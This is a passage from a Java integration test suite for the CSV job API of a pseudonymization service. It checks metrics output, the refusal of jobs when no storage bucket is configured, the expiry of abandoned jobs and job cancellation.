      assertThat(done.getString("status")).isEqualTo("CSV_JOB_STATUS_COMPLETED");

      String scraped = metrics.get("/metrics").body();
      assertThat(scraped)
          .contains(
              "vfps_csv_job_phase_duration_seconds_total{direction=\"export\",phase=\"read_input\"} 0.0");
      java.util.regex.Matcher resolved =
          java.util.regex.Pattern.compile(
                  "vfps_csv_job_phase_duration_seconds_total\\{direction=\"pseudonymize\","
                      + "phase=\"resolve_database\"\\} ([0-9.eE-]+)")
              .matcher(scraped);
      assertThat(resolved.find()).as(scraped).isTrue();
      assertThat(Double.parseDouble(resolved.group(1))).isPositive();
    }
  }

  @Test
  void withADatabaseButNoBucketJobsAreOffAndSaySo() {
    try (VfpsServer off =
            TestService.start(Map.of("ConnectionStrings__PostgreSQL", TestPostgres.uri()));
        HttpTestClient client = new HttpTestClient(off.httpPort())) {
      HttpTestClient.Response refused =
          client.postJson(
              "/v1/csv-jobs",
              CsvJobClient.request(
                      "EXPORT", Map.of(), CsvJobClient.mapping("o", "p", namespace("off")))
                  .encode());
      assertThat(refused.status()).isEqualTo(400);
      assertThat(refused.json().getInteger("code")).isEqualTo(9);
      assertThat(refused.json().getString("message")).startsWith("CSV jobs are off");
    }
  }

  @Test
  void aJobThatGetsNoUploadFailsOnceTheAbandonedJobExpiryHasPassed() {
    Map<String, String> environment = new HashMap<>(TestObjectStore.environment());
    environment.put("ConnectionStrings__PostgreSQL", TestPostgres.uri());
    environment.put("S3__PresignedUrlExpiry", "0.00:00:01");
    environment.put("CsvProcessing__AbandonedJobExpiry", "0.00:00:02");
    // the watchdog that expires jobs looks every quarter of this, at least every second
    environment.put("CsvProcessing__StalledJobThreshold", "0.00:00:04");
    try (VfpsServer expiring = TestService.start(environment);
        HttpTestClient client = new HttpTestClient(expiring.httpPort())) {
      CsvJobClient expiringJobs = new CsvJobClient(client);
      JsonObject job =
          expiringJobs.create(
              CsvJobClient.request(
                  "PSEUDONYMIZE",
                  Map.of("fileName", "never.csv"),
                  CsvJobClient.mapping("id", null, namespace("abandoned"))));
      assertThat(job.getString("status")).isEqualTo("CSV_JOB_STATUS_AWAITING_UPLOAD");

      JsonObject ended = expiringJobs.awaitEnd(job.getString("id"), TIMEOUT);

      assertThat(ended.getString("status")).isEqualTo("CSV_JOB_STATUS_FAILED");
      assertThat(ended.getString("errorMessage"))
          .contains("No file was uploaded within CsvProcessing__AbandonedJobExpiry");
      assertThat(expiringJobs.start(job.getString("id")).status()).isEqualTo(400);
    }
  }

  @Test
  void cancellingARunningOrQueuedJobStopsItAndTheListShowsTheCallersJobs() {
    String ns = namespace("cancel");
    JsonObject job =
        jobs.create(
            CsvJobClient.request(
                "PSEUDONYMIZE", Map.of("fileName", "c.csv"), CsvJobClient.mapping("id", null, ns)));
    // without a body, as curl -X POST sends it
    HttpTestClient.Response cancelled =
        http.send("POST", "/v1/csv-jobs/" + job.getString("id") + ":cancel", Map.of(), null);
    assertThat(cancelled.status()).isEqualTo(200);
    assertThat(cancelled.json().getString("status")).isEqualTo("CSV_JOB_STATUS_CANCELLED");
    assertThat(jobs.start(job.getString("id")).status()).isEqualTo(400);

    JsonArray listed = http.get("/v1/csv-jobs").json().getJsonArray("jobs");
    assertThat(listed.stream().map(o -> ((JsonObject) o).getString("id")))
        .contains(job.getString("id"));
  }
}
